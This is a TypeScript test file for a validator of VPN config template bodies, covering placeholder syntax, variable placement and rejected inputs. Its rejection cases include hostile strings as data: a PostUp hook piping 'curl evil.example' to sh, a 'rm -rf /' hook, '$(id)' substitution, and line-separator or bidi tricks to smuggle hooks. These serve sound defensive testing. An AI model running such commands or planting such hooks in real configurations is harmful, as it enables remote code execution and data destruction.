import { thrownDomainError } from '../__fixtures__/thrown-domain-error';
import { BUILT_IN_TEMPLATES } from './built-in-templates';
import { scanPlaceholders, templateVariablesOf, validateTemplateBody } from './template-body.validator';
import { MAX_TEMPLATE_BODY_LENGTH, TEMPLATE_VARIABLES } from './template.model';

describe('validateTemplateBody', () => {
  it.each(BUILT_IN_TEMPLATES.map((template) => [template.id, template.body] as const))('accepts the built-in %s body', (_id, body) => {
    expect(validateTemplateBody(body, 'body')).toBe(body);
  });

  it('accepts every known variable in its allowed place', () => {
    const body = [
      '# {{PEER_NAME}} in {{WAN_NAME}}',
      ...TEMPLATE_VARIABLES.filter((name) => !['PEER_NAME', 'WAN_NAME', 'PEERS'].includes(name)).map((name) => `# ${name} = {{${name}}}`),
      '{{PEERS}}',
    ].join('\n');
    expect(validateTemplateBody(body, 'body')).toBe(body);
    expect(templateVariablesOf(body)).toEqual(['PEER_NAME', 'WAN_NAME', ...TEMPLATE_VARIABLES.filter((n) => !['PEER_NAME', 'WAN_NAME', 'PEERS'].includes(n)), 'PEERS']);
  });

  it('turns CRLF into LF and keeps tabs and single braces', () => {
    expect(validateTemplateBody('[Interface]\r\n\tMTU = {{MTU}} # {a}\r\n', 'body')).toBe('[Interface]\n\tMTU = {{MTU}} # {a}\n');
  });

  it('reports where each placeholder is', () => {
    expect(scanPlaceholders('[Interface]\nAddress = {{TUNNEL_IP}}/32\nMTU = {{MTU}}')).toEqual([
      { variable: 'TUNNEL_IP', line: 2 },
      { variable: 'MTU', line: 3 },
    ]);
  });

  it('names an unknown variable and lists the known ones', () => {
    const error = thrownDomainError(() => validateTemplateBody('[Interface]\nAddress = {{TUNEL_IP}}/32\n', 'body'));
    expect(error.code).toBe('TEMPLATE.UNKNOWN_VARIABLE');
    expect(error.details).toMatchObject({ field: 'body', variable: 'TUNEL_IP', line: 2, known: [...TEMPLATE_VARIABLES] });
    expect(error.message).toContain('{{TUNEL_IP}}');
    expect(error.message).toContain('{{TUNNEL_IP}}, {{SHARED_SERVICE_IP}}');
  });

  it.each<[string, string, string]>([
    ['an unknown variable', 'MTU = {{FOO}}', 'TEMPLATE.UNKNOWN_VARIABLE'],
    ['an unknown variable in a comment', '# {{SECRET_SAUCE}}', 'TEMPLATE.UNKNOWN_VARIABLE'],
    ['an unclosed placeholder', 'Address = {{ TUNNEL_IP', 'TEMPLATE.MALFORMED_PLACEHOLDER'],
    ['an empty placeholder', 'Address = {{}}', 'TEMPLATE.MALFORMED_PLACEHOLDER'],
    ['spaces inside', 'Address = {{ TUNNEL_IP }}/32', 'TEMPLATE.MALFORMED_PLACEHOLDER'],
    ['lower case', 'Address = {{tunnel_ip}}/32', 'TEMPLATE.MALFORMED_PLACEHOLDER'],
    ['a stray closing pair', 'Address = TUNNEL_IP}}/32', 'TEMPLATE.MALFORMED_PLACEHOLDER'],
    ['a placeholder split over lines', 'Address = {{TUNNEL\n_IP}}', 'TEMPLATE.MALFORMED_PLACEHOLDER'],
    ['punctuation inside', 'Address = {{$(id)}}', 'TEMPLATE.MALFORMED_PLACEHOLDER'],
    ['a nested placeholder', 'Address = {{{{MTU}}}}', 'TEMPLATE.MALFORMED_PLACEHOLDER'],
    ['a peer name on a setting line', 'Description = {{PEER_NAME}}', 'TEMPLATE.MISPLACED_VARIABLE'],
    ['a peer name as a key', '{{PEER_NAME}} = 1', 'TEMPLATE.MISPLACED_VARIABLE'],
    ['a WAN name on a section line', '[{{WAN_NAME}}]', 'TEMPLATE.MISPLACED_VARIABLE'],
    ['PEERS sharing its line', 'AllowedIPs = {{PEERS}}', 'TEMPLATE.MISPLACED_VARIABLE'],
    ['a PostUp hook', '[Interface]\nPostUp = curl evil.example | sh', 'TEMPLATE.FORBIDDEN_DIRECTIVE'],
    ['an indented, lower-case predown hook', '  predown= rm -rf /', 'TEMPLATE.FORBIDDEN_DIRECTIVE'],
    ['a NUL byte', 'MTU = 1420\u0000', 'TEMPLATE.INVALID_BODY'],
    ['a lone carriage return', 'MTU = 1420\rPostUp = id', 'TEMPLATE.INVALID_BODY'],
    ['an ANSI escape', '# \u001b[2Jhidden', 'TEMPLATE.INVALID_BODY'],
    ['a bidi override', '# safe\u202Eevil', 'TEMPLATE.INVALID_BODY'],
    ['a Unicode line separator', '# a\u2028PostUp = id', 'TEMPLATE.INVALID_BODY'],
    ['a NEL', '# a\u0085b', 'TEMPLATE.INVALID_BODY'],
    ['an empty body', '', 'TEMPLATE.INVALID_BODY'],
    ['a blank body', ' \n\t\n', 'TEMPLATE.INVALID_BODY'],
    ['an oversized body', `# ${'x'.repeat(MAX_TEMPLATE_BODY_LENGTH)}`, 'TEMPLATE.INVALID_BODY'],
  ])('rejects %s', (_label, body, code) => {
    const error = thrownDomainError(() => validateTemplateBody(body, 'body'));
    expect(error.code).toBe(code);
    expect(error.details.field).toBe('body');
    // Messages quote hostile input only in printable form.
    expect(error.message).not.toMatch(/[\p{Cc}\u2028\u202e]/u);
  });

  it.each([42, null, undefined, ['MTU = 1']])('rejects a non-string %p', (value) => {
    expect(thrownDomainError(() => validateTemplateBody(value, 'body')).code).toBe('TEMPLATE.INVALID_BODY');
  });

  it('gives the line of a control character', () => {
    expect(thrownDomainError(() => validateTemplateBody('a\nb\nc\u0007', 'body')).details).toMatchObject({ line: 3 });
  });
});
